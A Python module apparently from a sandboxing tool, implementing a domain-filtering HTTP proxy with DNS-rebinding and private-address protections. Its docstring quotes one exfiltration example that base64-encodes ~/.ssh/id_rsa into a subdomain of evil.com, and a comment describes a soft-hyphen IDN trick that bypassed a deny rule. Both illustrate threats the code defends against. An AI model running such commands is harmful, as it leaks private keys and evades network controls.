"""The host-side HTTP proxy for the ``networked`` profile.

Inside the sandbox there is no network, only loopback. A bridge inside
forwards ``127.0.0.1:3128`` to this proxy's unix socket, which is the only
way out. Every request names its host — ``CONNECT host:443`` for TLS, an
absolute URL for plain HTTP — and the host is checked against the denied
domains, then the allowed ones, *before* any DNS lookup: ``curl
http://$(cat ~/.ssh/id_rsa | base64).evil.com`` leaks nothing, not even a DNS
query. A blocked request gets a 403 whose body names the domain and the
setting that would allow it.

Allowed names that resolve to a non-public address — loopback, private
ranges (the host's own LAN address among them), link-local (cloud metadata
at 169.254.169.254), reserved, multicast — are refused unless the policy
sets ``allow_private_addresses``: DNS rebinding must not turn an allowed
domain into a door to the host's own services. The connection then goes to
the address that was checked, never to a second lookup of the name.

On Linux the proxy serves a listening socket that was opened *inside* the
sandbox's network namespace and handed over a socket pair
(:class:`LaunchChannel`): the command connects to ``127.0.0.1:3128`` in
its own namespace and the host accepts, with no process of ours in the
sandbox to relay (or to be hijacked).
"""

from __future__ import annotations

import array
import asyncio
import contextlib
import ipaddress
import os
import socket
import threading
from collections.abc import Callable

from regexes import regex
from values import field, valueclass

from .policy import NetworkPolicy

#: Private-use ranges: where internal services live (RFC 1918, carrier-grade
#: NAT, IPv6 unique local). Documentation ranges are not in it: nothing
#: listens there.
_PRIVATE_NETWORKS = tuple(
    ipaddress.ip_network(n)
    for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", "fc00::/7")
)
#: Never reachable, whatever the policy: reserved (240/4), benchmarking
#: (198.18/15), and the IPv4 address space of the whole Internet behind
#: NAT64 and 6to4 is judged by the IPv4 address it embeds.
_NEVER_NETWORKS = tuple(
    ipaddress.ip_network(n) for n in ("240.0.0.0/4", "198.18.0.0/15", "0.0.0.0/8")
)
_NAT64 = (ipaddress.ip_network("64:ff9b::/96"), ipaddress.ip_network("64:ff9b:1::/48"))
#: A host name as it may be checked and then resolved: ASCII letters, digits,
#: hyphens and dots (an IDN in its xn-- form), or an IP literal. Anything
#: else is refused before the decision: getaddrinfo applies IDNA nameprep,
#: which drops a soft hyphen, so `f\xadiles.example.org` passed a deny rule
#: for `files.example.org` and then reached it (from a review).
_HOST_RE = regex(r"^(?:[a-z0-9](?:[a-z0-9-]{0,62})(?:\.[a-z0-9-]{1,63})*\.?|[0-9a-f:.]+)$")
_MAX_HOST = 253
#: decisions kept in memory for the caller (older ones are only reported)
_MAX_EVENTS = 1000
_MAX_HEAD = 65536
_HEAD_TIMEOUT = 30.0
_CONNECT_TIMEOUT = 15.0
#: Connections served at once. Beyond it new ones are closed: a command
#: opening thousands of connections must not use up shellgate's own
#: descriptors (its post-run guards need some).
MAX_CONNECTIONS = 256


@valueclass
class ProxyEvent:
    """One decision of the proxy (for the audit log)."""

    host: str
    port: int
    allowed: bool
    reason: str


@valueclass(frozen=False, slots=False)
class LaunchChannel:
    """The host's end of the socket pair shared with the in-sandbox launcher
    (see ``sandbox/linux/inner.py``): it delivers the listening socket, then
    says how the launch went."""

    sock: socket.socket
    #: "pending" until the launcher reports; then "started" (end-of-file
    #: after the listener: the exec closed the pair), "exec-failed" or "failed"
    state: str = "pending"
    errno: int | None = None
    message: str = ""
    done: threading.Event = field(default_factory=threading.Event)
    _got_listener: bool = False

    def wait(self, timeout: float) -> str:
        self.done.wait(timeout)
        return self.state


def blocked_body(host: str, reason: str, *, allowable: bool = True) -> str:
    head = f"shellgate sandbox: connection to {host} blocked ({reason}).\n"
    if not allowable:
        return head + "Addresses of the host and its private networks are never reachable.\n"
    return head + (
        f'To allow it, add "{host}" to sandbox.network.allowedDomains in your settings, '
        f"or pass --allow-domain {host} to shellgate run.\n"
    )


def _response(status: str, body: str) -> bytes:
    data = body.encode()
    return (
        f"HTTP/1.1 {status}\r\nContent-Type: text/plain; charset=utf-8\r\n"
        f"Content-Length: {len(data)}\r\nConnection: close\r\n"
        "X-Shellgate: blocked\r\n\r\n"
    ).encode() + data


def _split_host_port(value: str, default_port: int) -> tuple[str, int]:
    """(host, port); a port that is not 1-5 ASCII digits in 1..65535 is
    no port (`str.isdigit` takes `²`, which `int` refuses)."""
    if value.startswith("["):  # [v6]:port
        host, _, rest = value[1:].partition("]")
        port = rest[1:] if rest.startswith(":") else ""
    else:
        host, sep, port = value.rpartition(":")
        if not sep or not _is_port(port):
            host, port = value, ""
    return host.lower(), int(port) if _is_port(port) else default_port


def _is_port(text: str) -> bool:
    return 0 < len(text) <= 5 and text.isascii() and text.isdigit() and 0 < int(text) < 65536


def _embedded_ipv4(
    address: ipaddress.IPv4Address | ipaddress.IPv6Address,
) -> ipaddress.IPv4Address | ipaddress.IPv6Address:
    """The IPv4 address an IPv6 one carries (mapped, NAT64, 6to4, Teredo),
    or the address itself."""
    if isinstance(address, ipaddress.IPv6Address):
        if address.ipv4_mapped is not None:
            return address.ipv4_mapped
        if any(address in net for net in _NAT64):
            return ipaddress.IPv4Address(int(address) & 0xFFFFFFFF)
        if address.sixtofour is not None:
            return address.sixtofour
        if address.teredo is not None:
            return address.teredo[1]
    return address


def classify(
    address: ipaddress.IPv4Address | ipaddress.IPv6Address,
    own: set[ipaddress.IPv4Address | ipaddress.IPv6Address],
) -> str:
    """``"local"`` (never reachable), ``"private"`` (only with
    allow_private_addresses) or ``"public"``."""
    inner = _embedded_ipv4(address)
    for candidate in {address, inner}:
        if (candidate.is_loopback or candidate.is_link_local or candidate.is_unspecified
                or candidate.is_multicast or candidate in own
                or any(candidate in net for net in _NEVER_NETWORKS)):
            return "local"
    if any(c in net for c in {address, inner} for net in _PRIVATE_NETWORKS):
        return "private"
    return "public"


class DomainProxy:
    """An HTTP CONNECT + plain-HTTP forward proxy on its own thread, on a unix
    socket (Linux: bridged into the sandbox) or, with ``socket_path=None``,
    on an ephemeral loopback TCP port (macOS; :attr:`port`)."""

    def __init__(
        self,
        network: NetworkPolicy,
        socket_path: str | None,
        *,
        on_event: Callable[[ProxyEvent], None] | None = None,
        block_local_targets: bool = True,
        channel: LaunchChannel | None = None,
    ) -> None:
        self.network = network
        #: refuse allowed names that resolve to loopback/link-local (tests of
        #: the proxy itself turn this off to reach an upstream on loopback)
        self.block_local_targets = block_local_targets
        self.socket_path = socket_path
        #: serve the listener the launcher hands over (instead of socket_path)
        self.channel = channel
        self.on_event = on_event
        self.events: list[ProxyEvent] = []
        self._loop: asyncio.AbstractEventLoop | None = None
        self._thread: threading.Thread | None = None
        self._ready = threading.Event()
        self._server: asyncio.AbstractServer | None = None
        self._error: BaseException | None = None
        self.port: int | None = None
        self._active = 0
        #: this machine's addresses, looked up once per proxy, not per request
        self._own_addresses = _host_addresses() if block_local_targets else set()

    # -- lifecycle ---------------------------------------------------------
    def start(self) -> None:
        self._thread = threading.Thread(target=self._run, name="shellgate-proxy", daemon=True)
        self._thread.start()
        self._ready.wait(10)
        if self._error is not None:
            raise self._error

    def stop(self) -> None:
        loop = self._loop
        if loop is not None and loop.is_running():
            loop.call_soon_threadsafe(loop.stop)
        if self._thread is not None:
            self._thread.join(5)

    def __enter__(self) -> DomainProxy:
        self.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def _run(self) -> None:
        loop = asyncio.new_event_loop()
        self._loop = loop
        try:
            if self.channel is not None:
                self.channel.sock.setblocking(False)
                loop.add_reader(self.channel.sock.fileno(), self._on_channel, self.channel)
            elif self.socket_path is not None:
                server = asyncio.start_unix_server(self._handle, path=self.socket_path)
                self._server = loop.run_until_complete(server)
            else:
                server = asyncio.start_server(self._handle, host="127.0.0.1", port=0)
                self._server = loop.run_until_complete(server)
                self.port = self._server.sockets[0].getsockname()[1]
        except BaseException as exc:  # reported to start()
            self._error = exc
            self._ready.set()
            loop.close()
            return
        self._ready.set()
        try:
            loop.run_forever()
        finally:
            if self.channel is not None:
                with contextlib.suppress(Exception):
                    loop.remove_reader(self.channel.sock.fileno())
                self.channel.done.set()
            if self._server is not None:
                self._server.close()
                with contextlib.suppress(Exception):
                    loop.run_until_complete(self._server.wait_closed())
            for task in asyncio.all_tasks(loop):
                task.cancel()
            with contextlib.suppress(Exception):
                loop.run_until_complete(asyncio.sleep(0))
            loop.close()

    # -- the launcher's channel ---------------------------------------------
    def _on_channel(self, channel: LaunchChannel) -> None:
        """One message from the launcher: the listener first (``L`` with one
        descriptor), then ``E<errno> <text>`` or ``F<text>``, or end-of-file
        (the exec succeeded and closed the pair)."""
        try:
            data, ancdata, _flags, _addr = channel.sock.recvmsg(
                4096, socket.CMSG_SPACE(4 * array.array("i").itemsize)
            )
        except (BlockingIOError, InterruptedError):
            return
        except OSError as exc:
            data, ancdata = b"", []
            channel.message = f"launcher channel: {exc}"
        fds = _received_fds(ancdata)
        if data.startswith(b"L") and fds and not channel._got_listener:
            listener, problem = _adopt_listener(fds[0])
            for extra in fds[1:]:
                with contextlib.suppress(OSError):
                    socket.socket(fileno=extra).close()
            if listener is None:
                self._finish(channel, "failed", message=problem)
                return
            channel._got_listener = True
            assert self._loop is not None
            self._loop.create_task(self._serve_listener(listener))
            return
        for fd in fds:  # nothing else may carry descriptors
            with contextlib.suppress(OSError):
                socket.socket(fileno=fd).close()
        if not data:
            if channel._got_listener:
                self._finish(channel, "started")
            else:
                self._finish(channel, "failed",
                             message=channel.message or "the launcher ended before it started")
        elif data.startswith(b"E"):
            code, _, text = data[1:].decode("utf-8", "replace").partition(" ")
            self._finish(channel, "exec-failed", errno=int(code) if code.isdigit() else None,
                         message=text)
        else:
            self._finish(channel, "failed", message=data[1:].decode("utf-8", "replace")[:500])

    def _finish(self, channel: LaunchChannel, state: str, *, errno: int | None = None,
                message: str = "") -> None:
        if channel.state == "pending":
            channel.state, channel.errno, channel.message = state, errno, message
        assert self._loop is not None
        with contextlib.suppress(Exception):
            self._loop.remove_reader(channel.sock.fileno())
        channel.done.set()

    async def _serve_listener(self, listener: socket.socket) -> None:
        self._server = await asyncio.start_server(self._handle, sock=listener)

    # -- requests ----------------------------------------------------------
    def _record(self, host: str, port: int, allowed: bool, reason: str) -> None:
        event = ProxyEvent(host[:_MAX_HOST + 1], port, allowed, reason)
        self.events.append(event)
        if len(self.events) > _MAX_EVENTS:  # bounded memory, however many requests
            del self.events[: len(self.events) - _MAX_EVENTS]
        if self.on_event is not None:
            with contextlib.suppress(Exception):
                self.on_event(event)

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if self._active >= MAX_CONNECTIONS:
            writer.close()
            return
        self._active += 1
        try:
            await self._serve(reader, writer)
        finally:
            self._active -= 1

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), _HEAD_TIMEOUT)
        except (
            asyncio.IncompleteReadError,
            asyncio.LimitOverrunError,
            TimeoutError,
            ConnectionError,
        ):
            writer.close()
            return
        try:
            await self._dispatch(head, reader, writer)
        except (ConnectionError, TimeoutError, OSError, ValueError, UnicodeError):
            pass
        finally:
            with contextlib.suppress(Exception):
                writer.close()

    async def _dispatch(
        self, head: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        if len(head) > _MAX_HEAD:
            writer.write(_response("431 Request Header Fields Too Large", "header too large\n"))
            return
        lines = head.decode("latin-1").split("\r\n")
        parts = lines[0].split(" ")
        if len(parts) != 3:
            writer.write(_response("400 Bad Request", "malformed request line\n"))
            return
        method, target, version = parts
        if method == "CONNECT":
            host, port = _split_host_port(target, 443)
            tunnel = True
        elif target.startswith("http://"):
            authority, _, path = target[len("http://") :].partition("/")
            host, port = _split_host_port(authority, 80)
            tunnel = False
        else:
            writer.write(
                _response(
                    "400 Bad Request", "shellgate proxy: use CONNECT or an absolute http:// URL\n"
                )
            )
            return
        if len(host) > _MAX_HOST or not _HOST_RE.match(host):
            self._record(host, port, False, "not a plain ASCII host name")
            writer.write(_response(
                "400 Bad Request",
                "shellgate proxy: host names must be ASCII (an IDN in its xn-- form)\n"))
            return
        allowed, reason = self.network.decide(host)
        connect_to = host
        allowable = True
        if allowed:
            address, problem = await self._resolve(host, port)
            if problem is not None:
                allowed, reason, allowable = False, problem, False
            else:
                connect_to = address
        self._record(host, port, allowed, reason)
        if not allowed:
            body = blocked_body(host, reason, allowable=allowable)
            writer.write(_response("403 Forbidden", body))
            await writer.drain()
            return
        try:
            up_reader, up_writer = await asyncio.wait_for(
                asyncio.open_connection(connect_to, port), _CONNECT_TIMEOUT
            )
        except (OSError, TimeoutError) as exc:
            writer.write(_response("502 Bad Gateway", f"shellgate proxy: {host}:{port}: {exc}\n"))
            return
        if tunnel:
            writer.write(b"HTTP/1.1 200 Connection established\r\n\r\n")
        else:
            kept = [
                h
                for h in lines[1:]
                if h
                and not h.lower().startswith(
                    ("proxy-connection:", "proxy-authorization:", "connection:")
                )
            ]
            request = [f"{method} /{path} {version}", *kept, "Connection: close", "", ""]
            up_writer.write("\r\n".join(request).encode("latin-1"))
        await writer.drain()
        await asyncio.gather(
            _pipe(reader, up_writer), _pipe(up_reader, writer), return_exceptions=True
        )

    async def _resolve(self, host: str, port: int) -> tuple[str, str | None]:
        """One lookup: (address to connect to, None) or ("", why refused).
        Every address the name has must be public, so a resolver cannot
        answer public for the check and private for the connection."""
        loop = asyncio.get_running_loop()
        try:
            infos = await loop.getaddrinfo(host, port, type=socket.SOCK_STREAM)
        except OSError as exc:
            return "", f"cannot resolve {host}: {exc}"
        if not infos:
            return "", f"cannot resolve {host}"
        if self.block_local_targets:
            private_ok = self.network.allow_private_addresses
            own = self._own_addresses
            for info in infos:
                address = ipaddress.ip_address(str(info[4][0]).split("%")[0])
                kind = classify(address, own)
                if kind == "local" or (kind == "private" and not private_ok):
                    return "", f"{host} resolves to non-public address {address}"
        return str(infos[0][4][0]), None


def _received_fds(ancdata: list[tuple[int, int, bytes]]) -> list[int]:
    fds: list[int] = []
    for level, kind, payload in ancdata:
        if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
            usable = len(payload) - len(payload) % array.array("i").itemsize
            fds.extend(array.array("i", payload[:usable]))
    return fds


def _adopt_listener(fd: int) -> tuple[socket.socket | None, str]:
    """The handed-over descriptor, if it is what the launcher promised: a
    listening TCP socket. Anything else is closed and refused."""
    try:
        sock = socket.socket(fileno=fd)
    except OSError as exc:
        with contextlib.suppress(OSError):
            os.close(fd)
        return None, f"the launcher sent a descriptor that is not a socket ({exc})"
    try:
        ok = (
            sock.family in (socket.AF_INET, socket.AF_INET6)
            and sock.type == socket.SOCK_STREAM
            and sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) == 1
        )
    except OSError:
        ok = False
    if not ok:
        sock.close()
        return None, "the launcher sent a descriptor that is not a listening TCP socket"
    sock.setblocking(False)
    return sock, ""


def _host_addresses() -> set[ipaddress.IPv4Address | ipaddress.IPv6Address]:
    """This machine's own interface addresses (public ones included)."""
    out: set[ipaddress.IPv4Address | ipaddress.IPv6Address] = set()
    with contextlib.suppress(OSError):
        for info in socket.getaddrinfo(socket.gethostname(), None):
            with contextlib.suppress(ValueError):
                out.add(ipaddress.ip_address(str(info[4][0]).split("%")[0]))
    with contextlib.suppress(ImportError, OSError):
        import psutil  # noqa: PLC0415

        for addrs in psutil.net_if_addrs().values():
            for a in addrs:
                if a.family in (socket.AF_INET, socket.AF_INET6):
                    with contextlib.suppress(ValueError):
                        out.add(ipaddress.ip_address(a.address.split("%")[0]))
    return out


async def _pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    finally:
        with contextlib.suppress(Exception):
            writer.close()
